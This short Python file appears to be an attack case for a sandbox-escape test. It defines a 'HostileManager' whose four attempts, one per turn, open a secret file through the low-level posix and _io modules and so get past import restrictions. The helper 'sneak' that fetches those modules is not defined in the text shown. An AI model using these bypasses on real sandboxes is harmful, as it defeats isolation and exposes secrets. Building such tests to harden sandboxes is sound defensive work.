"""Reads a file outside with the built-in module of the system, past every gate on imports.

Control: secret, each turn.
"""

TURNS = 4


class HostileManager:
    def attack(self, *, secret_path, turn):
        posix = sneak("posix")
        folder, _, name = secret_path.rpartition("/")
        attempts = [
            lambda: posix.open(secret_path, posix.O_RDONLY),
            lambda: posix.open(name, 0, dir_fd=posix.open(folder, posix.O_PATH)),
            lambda: self.keep(sneak("_io").open(secret_path, "rb", 0)),
            lambda: self.keep(sneak("_io").FileIO(secret_path)),
        ]
        return posix.pread(attempts[turn](), 100, 0).decode(errors="replace")

    def keep(self, file):
        self.file = file
        return file.fileno()
